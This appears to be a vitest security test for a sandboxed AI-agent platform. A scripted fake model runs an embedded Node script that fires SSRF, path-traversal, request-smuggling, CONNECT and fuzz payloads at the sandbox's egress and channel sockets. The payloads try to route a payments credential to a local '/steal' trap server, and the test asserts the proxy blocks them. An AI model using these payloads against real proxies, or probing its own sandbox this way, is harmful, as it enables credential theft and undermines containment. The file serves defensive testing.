// A compromised sandbox attacks the two sockets it is given, from inside a real bubblewrap
// sandbox: confusing request targets that used to carry the connection's credential to another
// authority, malformed and oversized HTTP, half-closed and reset connections on the egress socket,
// and garbage on the channel socket. The worker runs in this test's process: had any of it
// crashed the process, the test would die with it. Then the next run must succeed.
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { troubleshootScript } from '@remit/api';
import { createScriptedProvider, type ModelProvider } from '@remit/models';
import { describe, expect, it } from 'vitest';
import { PAYMENTS_READ_TOKEN, seedRoles, withRunStack } from './support/run-stack.ts';

const attacker = (trapPort: number) => `
const net = require('node:net');
const E = '/run/remit/egress.sock', C = '/run/remit/channel.sock';
const H = 'Host: payments-api\\r\\n';
const targets = ['//127.0.0.1:${trapPort}/steal', '/\\\\127.0.0.1:${trapPort}/steal', 'http://127.0.0.1:${trapPort}/steal',
  'http://payments-api@127.0.0.1:${trapPort}/steal', 'http://127.0.0.1:${trapPort}@payments-api/steal', '///127.0.0.1:${trapPort}/x',
  '/%2e%2e/status', '/..;/status', '/a%2f..%2f..%2fstatus', '*', '127.0.0.1:${trapPort}', 'http://[::1/', 'http://payments-api:99999999/'];
const payloads = [
  ...targets.map((t) => 'GET ' + t + ' HTTP/1.1\\r\\n' + H + '\\r\\n'),
  'CONNECT 127.0.0.1:${trapPort} HTTP/1.1\\r\\n' + H + '\\r\\n',
  'garbage\\r\\n\\r\\n', 'GET\\r\\n\\r\\n', 'GET /\\u0000 HTTP/1.1\\r\\n\\r\\n', '\\u0000\\u0001\\u00ff\\r\\n\\r\\n',
  'GET / HTTP/1.1\\r\\n' + H + 'X: ' + 'a'.repeat(100000) + '\\r\\n\\r\\n',
  'GET / HTTP/1.1\\r\\n' + H + 'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n',
  'GET / HTTP/1.1\\r\\nHost: payments-api:xx\\r\\n\\r\\n', 'GET / HTTP/9.9\\r\\n' + H + '\\r\\n',
  'POST /logs HTTP/1.1\\r\\n' + H + 'Content-Length: 100000\\r\\n\\r\\nshort',
];
function send(path, payload, mode) {
  return new Promise((resolve) => {
    const s = net.connect(path);
    let out = '';
    s.on('data', (c) => (out += c));
    s.on('error', () => resolve('error'));
    s.on('close', () => resolve(out.slice(0, 12)));
    s.setTimeout(3000, () => s.destroy());
    s.write(payload);
    if (mode === 'half') s.end();
    if (mode === 'reset') s.destroy();
  });
}
(async () => {
  const answers = [];
  for (const mode of ['wait', 'half', 'reset']) answers.push(...(await Promise.all(payloads.map((p) => send(E, p, mode)))));
  for (let i = 0; i < 40; i++) answers.push(await send(E, Buffer.from(Array.from({ length: 64 }, () => Math.floor(Math.random() * 256))), i % 2 ? 'half' : 'wait'));
  const channel = ['not json\\n', '{"type":"hello","token":"forged","version":"0"}\\n', '{"type":"result"}\\n', 'x'.repeat(10000), '\\u0000\\n'];
  for (const line of channel) for (const mode of ['wait', 'half', 'reset']) answers.push(await send(C, line, mode));
  const statuses = {};
  for (const a of answers) statuses[a] = (statuses[a] || 0) + 1;
  console.log(JSON.stringify(statuses));
})();
`;

describe('a sandbox attacking its own sockets', () => {
  it('cannot send a credential to another authority, cannot crash the process, and the next run succeeds', async () => {
    const trapped: IncomingMessage['headers'][] = [];
    const trap = createServer((req, res) => {
      trapped.push(req.headers);
      res.end('stolen');
    });
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
    const trapPort = (trap.address() as AddressInfo).port;
    try {
      await withRunStack(
        async (s) => {
          await seedRoles(s);
          const alice = await s.tokenFor({ email: 'alice@example.com', groups: ['developers'] });
          const attack = await s.startRun(alice, { kind: 'troubleshoot', input: 'attack the sockets' });
          const attacked = await s.waitForStatus(attack, ['succeeded', 'failed'], 60_000);
          expect(attacked).toMatchObject({ status: 'succeeded' });

          const res = await s.request(`/v1/runs/${attack}/events`, { token: alice });
          const transcript = await res.text();
          expect(transcript).toContain('egress_target_form');
          expect(transcript).toContain('egress_target_path');
          // The health check after the attack still went through the same proxy.
          const egress = transcript
            .split('\n')
            .filter((line) => line.startsWith('data:'))
            .map((line) => JSON.parse(line.slice(5)) as { type: string; data: Record<string, unknown> })
            .filter((e) => e.type === 'egress')
            .map((e) => e.data);
          expect(egress.filter((d) => d.reason === 'egress_malformed_request').length).toBeGreaterThan(10);
          expect(egress).toContainEqual(expect.objectContaining({ connection: 'payments-api', path: '/health', allowed: true, status: 503 }));
          expect(trapped).toEqual([]);
          expect(transcript).not.toContain(PAYMENTS_READ_TOKEN);

          const next = await s.startRun(alice, { kind: 'troubleshoot', input: 'why is checkout failing?' });
          expect(await s.waitForStatus(next, ['succeeded', 'failed'], 60_000)).toMatchObject({ status: 'succeeded' });
        },
        {
          script: [],
          // A fake model, named as such: the attack script for the first run, the demo's for the next.
          model: (() => {
            const attack = createScriptedProvider(
              [
                { text: 'Attacking.', toolCalls: [{ name: 'exec', input: { command: ['node', '-e', attacker(trapPort)], timeoutMs: 30_000 } }] },
                { text: 'Still working?', toolCalls: [{ name: 'http', input: { connection: 'payments-api', path: '/health' } }] },
                { text: 'Done.' },
              ],
              { name: 'socket attacker' },
            );
            const demo = createScriptedProvider(troubleshootScript, { name: 'demo' });
            return {
              ...attack,
              converse: (request) => (JSON.stringify(request.messages[0]).includes('attack the sockets') ? attack : demo).converse(request),
            } satisfies ModelProvider;
          })(),
        },
      );
    } finally {
      trap.close();
    }
  }, 120_000);
});
